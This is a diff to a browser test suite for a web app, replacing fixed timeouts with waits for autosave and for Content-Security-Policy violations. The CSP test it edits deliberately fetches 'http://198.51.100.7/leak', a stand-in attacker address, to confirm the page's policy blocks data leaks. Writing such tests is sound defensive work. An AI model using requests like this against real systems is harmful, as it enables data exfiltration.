@@ -9,7 +9,8 @@ let server, browser;
 before(async () => { server = await startServer(); browser = await launchBrowser(); });
 after(async () => { await browser?.close(); server?.stop(); });
 
-const waitForAutosave = (page) => page.waitForTimeout(1500);
+// Until autosave has written the lab as it is now.
+const waitForAutosave = (page) => page.waitForFunction(() => !window.headlabPersistence.pending(), null, { timeout: 10000 });
 const ready = (page) => page.waitForFunction(() => window.headlab && window.headlab.ready).then(() => page.evaluate(() => window.headlab.ready));
 const toast = (page) => page.evaluate(() => document.getElementById('toast')?.textContent || '');
 
@@ -274,7 +275,12 @@ test('the page fetches only its own files; its policy forbids eval, inline scrip
     document.body.appendChild(image);
     let fetched = 'sent';
     try { await fetch('http://198.51.100.7/leak'); } catch (e) { fetched = e.name; }
-    await new Promise((resolve) => setTimeout(resolve, 300));
+    // The image's violation is reported when its load is refused: wait for all three, not a time.
+    await new Promise((resolve) => {
+      let framesLeft = 600;  // a violation that never comes fails the assertion below, not the timeout
+      const check = () => (new Set(violations).size >= 3 || --framesLeft < 0 ? resolve() : requestAnimationFrame(check));
+      check();
+    });
     image.remove();
     const policy = document.querySelector('meta[http-equiv="Content-Security-Policy"]').content;
     return { violations: [...new Set(violations)].sort(), injected: window.__injected === true, fetched, policy };
